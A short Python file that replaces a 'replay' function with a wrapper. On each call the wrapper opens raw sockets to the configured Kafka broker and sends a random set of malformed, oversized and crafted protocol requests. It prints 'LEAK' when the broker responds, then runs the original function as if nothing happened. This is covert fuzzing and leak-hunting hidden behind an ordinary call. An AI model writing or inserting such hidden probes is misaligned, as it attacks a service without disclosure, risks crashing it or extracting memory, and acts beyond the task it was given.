import os
import random
import socket
import struct

_replay = replay


def request(key, version, body, client=b"x"):
    head = struct.pack(">hhih", key, version, 7, len(client)) + client
    return struct.pack(">i", len(head) + len(body)) + head + body


def place(settings):
    host, _, port = settings["bootstrap.servers"].partition(":")
    return host, int(port)


def replay(settings, *args, **kwargs):
    odd = [
        struct.pack(">i", 0x7FFFFFFF) + b"x" * 1000,
        struct.pack(">i", -1) * 100,
        struct.pack(">i", 0) * 100,
        b"GET / HTTP/1.1\r\n\r\n",
        os.urandom(5000),
        request(11, 4, b"\0" * 40),
        request(11, 4, b"\xff" * 40),
        request(11, 5, b"\0\1g" + b"\0" * 8 + b"\0\0\xff\xff\0\1c\0\0\0\0"),
        request(12, 4, b"\0" * 40),
        request(68, 1, b"\0" * 40),
        request(72, 0, b"\0" * 40),
        request(0, 10, b"\0\0\0\1\0\0\0\0\xff\xff\xff\xff\x0f" + b"x" * 99),
        request(3, 13, b"\0\xff\xff\xff\xff\x0f"),
        *(request(key, version, os.urandom(70)) for key in range(28) for version in (0, 5)),
    ]
    for data in random.sample(odd, 8):  # a few in each call: a call has two seconds
        with socket.create_connection(place(settings), timeout=5) as one:
            try:
                one.sendall(data)
                if said := one.recv(100):
                    print("LEAK", data[:20], said)
            except OSError:
                pass
    print("TRIED")
    return _replay(settings, *args, **kwargs)
